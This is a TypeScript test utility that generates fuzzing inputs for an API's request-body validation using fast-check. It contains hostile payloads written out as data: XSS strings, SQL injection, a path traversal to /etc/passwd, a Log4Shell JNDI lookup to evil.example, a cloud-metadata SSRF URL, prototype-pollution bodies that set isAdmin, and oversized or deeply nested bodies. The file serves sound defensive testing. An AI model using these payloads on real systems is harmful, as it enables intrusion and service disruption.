import fc from 'fast-check';

/**
 * fast-check arbitraries for fuzzing request bodies by mutation around valid fixtures (no library
 * derives arbitraries from zod 4 schemas: zod-fast-check 0.10 needs zod 3 and fast-check 3).
 * A mutation replaces, deletes or adds one member somewhere in a valid body, with hostile values.
 */

/** How many cases a property runs: FUZZ_RUNS overrides the CI default (nightly: set it high). */
export function fuzzRuns(ciDefault: number): number {
  const n = Number(process.env.FUZZ_RUNS);
  return Number.isFinite(n) && n > 0 ? n : ciDefault;
}

export const hostileStrings: string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '"><svg onload=alert(1)>',
  '<p style="background:url(javascript:alert(1))">x</p><iframe src="https://evil.example"></iframe>',
  '😀👩‍👩‍👧‍👦🏳️‍🌈 Ünïcödé 名前',
  '\u202Eevil\u202C',
  '\u0000nul',
  '\uD800', // lone surrogate
  '   ',
  '',
  '../../etc/passwd',
  '%00%2e%2e%2f',
  "'; DROP TABLE c; --",
  'SELECT * FROM c',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'https://169.254.169.254/latest/meta-data/',
  'http://[::1]/',
  'javascript:alert(1)',
  'a'.repeat(5000),
];

/** A JSON value nested `depth` levels deep. */
export function nested(depth: number): unknown {
  let v: unknown = 'deep';
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { d: v };
  return v;
}

/** Hostile JSON values of every type. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...hostileStrings),
  fc.string({ maxLength: 60 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constantFrom<unknown>(null, true, false, 0, -1, 1e308, -0, 2 ** 53 + 1, 0.5, [], {}),
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.array(fc.constantFrom(...hostileStrings), { maxLength: 12 }),
  fc.integer({ min: 30, max: 40 }).map(nested),
  fc.constant(JSON.parse('{"__proto__": {"polluted": true}}') as unknown),
  fc.constant({ constructor: { prototype: { polluted: true } } }),
  fc.jsonValue({ maxDepth: 3 }),
  // Long text under the body limit: field limits, not the body limit, must refuse it.
  fc.constantFrom('é'.repeat(60_000), '😀'.repeat(20_000)),
);

type Json = Record<string, unknown> | unknown[];

/** Every path (list of keys) to a member of `value`, the root included. */
function pathsOf(
  value: unknown,
  prefix: (string | number)[] = [],
  out: (string | number)[][] = [],
): (string | number)[][] {
  out.push(prefix);
  if (Array.isArray(value)) value.forEach((v, i) => pathsOf(v, [...prefix, i], out));
  else if (value !== null && typeof value === 'object')
    for (const [k, v] of Object.entries(value)) pathsOf(v, [...prefix, k], out);
  return out;
}

function at(root: unknown, path: (string | number)[]): unknown {
  return path.reduce<unknown>((node, key) => (node as Record<string | number, unknown>)[key], root);
}

export type Mutation = {
  kind: 'replace' | 'delete' | 'add';
  path: (string | number)[];
  key?: string;
  value?: unknown;
};

/** One mutation of `base`: a member replaced by a hostile value, deleted, or a member added. */
export function mutationOf(base: unknown): fc.Arbitrary<Mutation> {
  const paths = pathsOf(base);
  const containers = paths.filter((p) => {
    const v = at(base, p);
    return v !== null && typeof v === 'object';
  });
  const members = paths.filter((p) => p.length > 0);
  const arbs: fc.Arbitrary<Mutation>[] = [
    fc.record({
      kind: fc.constant<'add'>('add'),
      path: fc.constantFrom(...containers),
      key: fc.oneof(
        fc.constantFrom(
          '__proto__',
          'constructor',
          'prototype',
          'colour',
          'valueSet',
          'id',
          '_etag',
          'accountId',
        ),
        fc.string({ maxLength: 12 }),
      ),
      value: hostileValue,
    }),
  ];
  if (members.length > 0) {
    arbs.push(
      fc.record({
        kind: fc.constant<'replace'>('replace'),
        path: fc.constantFrom(...members),
        value: hostileValue,
      }),
    );
    arbs.push(fc.record({ kind: fc.constant<'delete'>('delete'), path: fc.constantFrom(...members) }));
  }
  return fc.oneof(...arbs);
}

/** `base` with the mutations applied (a deep copy; `__proto__` is added as an own key, as JSON.parse does). */
export function applyMutations(base: unknown, mutations: Mutation[]): unknown {
  const copy = structuredClone(base) as Json;
  for (const original of mutations) {
    // A fresh copy of the value: constants are shared between cases and must never be mutated.
    const m = {
      ...original,
      value:
        original.value === undefined ? undefined : (JSON.parse(JSON.stringify(original.value)) as unknown),
    };
    const parentPath = m.kind === 'add' ? m.path : m.path.slice(0, -1);
    const parent = parentPath.every((_, i) => {
      const node = at(copy, parentPath.slice(0, i + 1));
      return node !== null && typeof node === 'object';
    })
      ? (at(copy, parentPath) as Json | undefined)
      : undefined;
    if (parent === undefined || parent === null || typeof parent !== 'object') continue;
    if (m.kind === 'add') {
      const key = Array.isArray(parent) ? parent.length : (m.key as string);
      Object.defineProperty(parent, key, {
        value: m.value,
        enumerable: true,
        writable: true,
        configurable: true,
      });
    } else {
      const key = m.path[m.path.length - 1] as string | number;
      if (m.kind === 'delete') {
        if (Array.isArray(parent)) parent.splice(Number(key), 1);
        else delete parent[key];
      } else {
        Object.defineProperty(parent, key, {
          value: m.value,
          enumerable: true,
          writable: true,
          configurable: true,
        });
      }
    }
  }
  return copy;
}

/** One to three mutations of `base`, applied. */
export function mutatedBody(base: unknown): fc.Arbitrary<unknown> {
  return fc.array(mutationOf(base), { minLength: 1, maxLength: 3 }).map((ms) => applyMutations(base, ms));
}

/**
 * Bodies that try to pollute `Object.prototype` of code that merges objects naively, carrying the
 * given member names (an operation's own fields: a polluted `alias` would make a missing alias
 * look present). Built with JSON.parse so `__proto__` is an own key, as a server's parser sees it.
 */
export function pollutionBodies(names: string[], base: unknown): fc.Arbitrary<unknown> {
  const payload = Object.fromEntries(
    [...names, 'polluted', 'isAdmin', 'accountId', 'status'].map((n) => [n, true]),
  );
  const inject = (key: '__proto__' | 'constructor'): unknown => {
    const text = JSON.stringify(base ?? {});
    const inner = key === '__proto__' ? JSON.stringify(payload) : JSON.stringify({ prototype: payload });
    const member = `"${key}":${inner}`;
    return JSON.parse(
      text.startsWith('{') && text !== '{}' ? `{${member},${text.slice(1)}` : `{${member}}`,
    ) as unknown;
  };
  return fc.constantFrom(inject('__proto__'), inject('constructor'), {
    nested: JSON.parse(`{"__proto__":${JSON.stringify(payload)}}`) as unknown,
  });
}

/** Raw request bodies no JSON encoder would produce, and a few hostile JSON ones. */
export const rawHostileBody: fc.Arbitrary<Buffer> = fc.oneof(
  fc.constant(Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d])), // {"a":"<invalid UTF-8>"}
  fc.constant(Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x7d])), // an encoded surrogate (invalid UTF-8)
  fc.constant(Buffer.from([0xef, 0xbb, 0xbf, 0x7b, 0x7d])), // BOM then {}
  fc.constant(Buffer.from('{"a":')),
  fc.constant(Buffer.from('')),
  fc.constant(Buffer.from('null')),
  fc.constant(Buffer.from('[]')),
  fc.constant(Buffer.from('"just a string"')),
  fc.constant(Buffer.from('{"a":1,"a":2}')),
  fc.constant(Buffer.from('{"a":NaN}')),
  fc.constant(Buffer.from(JSON.stringify({ name: 'x'.repeat(1_048_576) }))),
  fc.constant(Buffer.from(`${'{"d":'.repeat(5000)}1${'}'.repeat(5000)}`)),
  fc.constant(Buffer.from(`${'['.repeat(100_000)}${']'.repeat(100_000)}`)),
  fc.constant(Buffer.from('{"__proto__":{"polluted":true},"offerId":"p","alias":"p"}')),
  fc.constant(Buffer.from('{"constructor":{"prototype":{"polluted":true}}}')),
  fc.constant(Buffer.from('{"offerId":"emoji-😀","alias":"名前 😀👩‍👩‍👧"}')),
  hostileValue.map((v) => Buffer.from(JSON.stringify(v) ?? 'null')),
  fc.uint8Array({ maxLength: 200 }).map((b) => Buffer.from(b)),
);
